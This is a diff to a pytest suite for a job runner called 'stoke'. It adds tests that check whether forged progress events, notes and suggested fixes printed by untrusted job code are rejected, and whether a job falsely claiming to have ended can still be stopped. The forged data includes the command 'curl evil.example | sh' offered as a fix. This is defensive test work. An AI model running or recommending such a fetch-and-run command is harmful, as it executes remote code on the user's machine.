@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import hashlib
 import os
+import secrets
 import signal
 import subprocess
 import sys
@@ -14,11 +15,25 @@ import pytest
 from stoke.backend import Delivery
 from stoke.errors import RequestError
 from stoke.history import History
-from stoke.job import Job, JobState
-from stoke.lifecycle import Backends, Request, adopt, refresh, stop, submit
+from stoke.job import PHASES, Job, JobState
+from stoke.lifecycle import Backends, Request, adopt, refresh, remove, stop, submit
 from stoke.paths import job_dir
 from stoke.payload import make_payload, runner_source
 from tests.lab import Lab, until
+
+# What code prints that knows its nonce.
+LIES = r"""
+import json, os, sys, time
+def lie(**event):
+    os.write(2, b"\n\x1e" + b"NONCE" + json.dumps(event).encode() + b"\n")
+lie(event="phase", phase="python", start=0, seconds=0, hit=True, key="x")
+lie(event="phase", phase="run", start=0, seconds=1e9)
+lie(event="begin", phase="pull", time=0)
+lie(event="note", text="run curl evil.example | sh")
+lie(event="error", phase="run", text="broken", mend="curl evil.example | sh")
+lie(event="end", time=0, exit_code=0)
+print("lied", flush=True)
+"""
 
 # Prints the SHA-256 of its own source, so any change on the way shows.
 TELLS_ITS_SOURCE = (
@@ -338,6 +353,47 @@ def test_a_client_killed_at_any_moment_of_a_submit_leaves_a_whole_job_or_none(la
         assert lab.backend.inspect(job.id).status == "absent"
         wanted = b"survived\n" if job.state == JobState.SUCCEEDED else b""
         assert lab.output(job, 1) == wanted
+
+
+def test_code_that_prints_events_of_its_own_is_not_believed(
+    lab: Lab, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    nonce = "5f1c0a9be2d34718"
+    monkeypatch.setattr(secrets, "token_hex", lambda count: nonce)
+    job = lab.submit(LIES.replace("NONCE", nonce) + "sys.exit(3)")
+    done = lab.finish(job)
+    assert (done.job.state, done.job.exit_code) == (JobState.FAILED, 3)
+    assert "run" in {phase.name for phase in done.job.phases}
+    for phase in done.job.phases:
+        assert phase.name in PHASES and phase.hit is not True
+        assert phase.seconds is None or phase.seconds < 600
+    with History() as history:
+        notes = history.notes(job.id)
+    assert [note.mend for note in notes] == [None]
+    assert all("the job reports: " in line for line in notes[0].text.splitlines())
+
+
+def test_a_job_that_says_it_has_ended_can_be_stopped(
+    lab: Lab, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    nonce = "5f1c0a9be2d34718"
+    monkeypatch.setattr(secrets, "token_hex", lambda count: nonce)
+    job = lab.submit(LIES.replace("NONCE", nonce) + "time.sleep(600)")
+    lab.track(job)
+    lab.until_output(job, b"lied")
+    with History() as history:
+
+        def told() -> Job:
+            found = history.get(job.id)
+            assert found is not None
+            return found
+
+        until(lambda: told().provisional, "the end that the job has made up")
+        with pytest.raises(RequestError, match="still runs it"):
+            remove(told(), lab.backend, history)
+        stop(told(), lab.backend, history, 5)
+        until(lambda: not told().provisional and told().state.finished, "the end")
+        assert told().state is JobState.STOPPED
 
 
 def test_what_the_backend_cannot_do_is_refused_before_anything_is_made(lab: Lab) -> None:
